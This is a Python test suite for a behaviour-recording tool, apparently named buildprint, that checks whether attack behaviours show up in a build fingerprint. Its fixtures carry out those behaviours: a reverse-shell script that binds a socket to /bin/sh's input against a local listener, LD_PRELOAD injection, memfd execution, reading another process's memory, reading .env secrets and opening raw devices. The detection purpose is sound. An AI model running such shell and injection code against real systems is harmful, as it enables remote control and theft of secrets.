#!/usr/bin/env python3
"""Behaviors by which attacks show themselves, from the kernel to the fingerprint's line:
behaviors_test.py BUILDPRINT PROGRAMS [unittest options]

Needs root; skips (77) where the probe cannot work.
"""
import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import unittest

from live import LiveTest, require_probe

BUILDPRINT, PROGRAMS = (os.path.abspath(sys.argv.pop(1)) for _ in range(2))


class BehaviorsTest(LiveTest):
    def setUp(self):
        self.directory = tempfile.mkdtemp(prefix="buildprint-behaviors-", dir=os.path.expanduser("~"))
        self.temporary = tempfile.mkdtemp(prefix="buildprint-temporary-")
        for made in (self.directory, self.temporary):
            self.addCleanup(shutil.rmtree, made)

    def record(self, script, **environment):
        """Lines "KIND LAST-PROGRAM[: OBJECT]" of `sh -c SCRIPT`, and the fingerprint."""
        out = os.path.join(self.directory, "out.json")
        done = subprocess.run([BUILDPRINT, "record", "--linger", "200ms", "-o", out, "--recording", out + "l", "--", "sh",
                               "-c", script], capture_output=True, text=True, cwd=self.directory, timeout=60,
                              env={**os.environ, "TMPDIR": self.temporary, "P": PROGRAMS, **environment})
        self.assertEqual(done.returncode, 0, done.stderr)
        with open(out) as file:
            fingerprint = json.load(file)
        self.assertTrue(fingerprint["complete"], fingerprint)
        return [f'{line["kind"]} {line["lineage"][-1]}' + (f': {line["object"]}' if "object" in line else "")
                for line in fingerprint["behaviors"]], fingerprint

    def assert_shows(self, lines, *wanted):
        for line in wanted:
            self.assertIn(line, lines, "\n".join(lines))

    def test_a_program_that_the_recording_wrote_says_who_did(self):
        lines, _ = self.record('cp /bin/true "$TMPDIR/tool" && "$TMPDIR/tool"')
        self.assert_shows(lines, "exec $TMP/tool (by /usr/bin/cp)")

    def test_programs_without_a_file(self):
        lines, _ = self.record('"$P"/arguments memfd')
        self.assert_shows(lines, "exec memfd:hidden")
        lines, _ = self.record('cp "$P"/arguments gone && ./gone deleted')
        self.assertTrue([line for line in lines if line.startswith("exec deleted:$WS/gone")], lines)

    def test_a_variable_that_loads_code_is_named_and_its_value_is_not(self):
        lines, _ = self.record("LD_PRELOAD=/lib/secret.so cat /dev/null 2>/dev/null; true")
        self.assert_shows(lines, "read /usr/bin/cat: environment:LD_PRELOAD")
        with open(os.path.join(self.directory, "out.jsonl")) as file:
            kept = [line for line in file if "LD_PRELOAD" in line and '"env"' in line]
        self.assertIn("xxh3:", kept[0])
        self.assertNotIn('"LD_PRELOAD":"/lib', kept[0])
        lines, _ = self.record("cat /dev/null", LD_PRELOAD="/lib/secret.so")
        self.assertNotIn("read /usr/bin/cat: environment:LD_PRELOAD", lines)

    def test_a_shell_on_a_network_socket(self):
        with socket.create_server(("127.0.0.1", 0)) as server:
            script = ("import os,socket; s=socket.create_connection(('127.0.0.1',%d)); os.dup2(s.fileno(),0); "
                      "os.execv('/bin/sh',['sh'])" % server.getsockname()[1])
            with open(os.path.join(self.directory, "remote.py"), "w") as file:
                file.write(script)
            process = subprocess.Popen([sys.executable, "-c", "import socket,sys; s=socket.socket(fileno=int(sys.argv[1]));"
                                        "c,_=s.accept(); c.sendall(b'exit 0\\n')", str(server.fileno())],
                                       pass_fds=[server.fileno()])
            lines, _ = self.record(f"{sys.executable} remote.py")
            process.wait()
        self.assert_shows(lines, "read /usr/bin/sh -: network:standard input")

    def test_namespaces_of_a_new_process(self):
        lines, _ = self.record('"$P"/looks clone')
        self.assertTrue([line for line in lines if line.startswith("kernel ") and "unshare network uts" in line], lines)

    def test_the_memory_of_a_process_that_is_not_followed(self):
        bystander = subprocess.Popen(["sleep", "60"])
        try:
            lines, _ = self.record(f'"$P"/looks {bystander.pid} >/dev/null')
        finally:
            bystander.kill()
            bystander.wait()
        for how in ("process_vm_readv", "process_vm_writev", "mem", "ptrace"):
            self.assertTrue([line for line in lines if line.endswith(f": {how} of foreign:/usr/bin/sleep")], lines)

    def test_environment_files_by_pattern(self):
        lines, _ = self.record("echo x >.env.staging; cat .env.staging >/dev/null")
        self.assert_shows(lines, "read /usr/bin/cat: secret:environment-file ($WS/.env.staging)")

    def test_devices_are_told_wherever_their_node_lies_and_harmless_ones_are_not(self):
        node = os.path.join(self.temporary, "null")
        try:
            os.mknod(node, 0o600 | stat.S_IFBLK, os.stat("/dev/loop0").st_rdev)
            with open(node, "rb+"):
                pass
        except OSError as why:
            self.skip_here(f"no block device can be opened: {why}")
        device = "/usr/bin/sh -c: sink:/dev/loop<n>"
        for path in (node, "/dev/loop0"):
            self.assert_shows(self.record(f": <>{path}")[0], "write " + device)
        lines, _ = self.record(f"cat {node} /dev/null; for d in null zero full random fuse kvm loop-control ptmx "
                                         "net/tun dri/card0; do test -w /dev/$d && : <>/dev/$d; done; : >/dev/shm/x; rm /dev/shm/x")
        self.assertEqual([line for line in lines if line.startswith("write ")], [])

    def test_ports_are_told_wherever_their_node_lies(self):
        node = os.path.join(self.temporary, "null")
        os.mknod(node, 0o600 | stat.S_IFCHR, os.makedev(1, 4))
        try:
            os.close(os.open(node, os.O_RDWR))
        except OSError as why:
            self.skip_here(f"the ports cannot be opened: {why}")
        self.assert_shows(self.record(f": <>{node}")[0], "write /usr/bin/sh -c: sink:/dev/port")

    def test_what_io_uring_hides_is_said(self):
        _, fingerprint = self.record('"$P"/uring inline 1 >/dev/null || true')
        self.assertTrue([gap for gap in fingerprint["coverage_gaps"] if gap.endswith("reaches through io_uring")],
                        fingerprint["coverage_gaps"])

    def test_what_is_left_running_is_said(self):
        _, fingerprint = self.record("setsid sleep 3 >/dev/null 2>&1 &")
        self.assertEqual(fingerprint["coverage_gaps"], ["/usr/bin/sleep still ran when the recording ended"])

    def test_no_loss_ends_well(self):
        out = os.path.join(self.directory, "out.json")
        done = subprocess.run([BUILDPRINT, "record", "--no-loss", "-o", out, "--", "sh", "-c", "cat /dev/null; exit 3"],
                              capture_output=True, text=True, cwd=self.directory, timeout=60)
        self.assertEqual(done.returncode, 3, done.stderr)


if __name__ == "__main__":
    require_probe(BUILDPRINT)
    unittest.main()
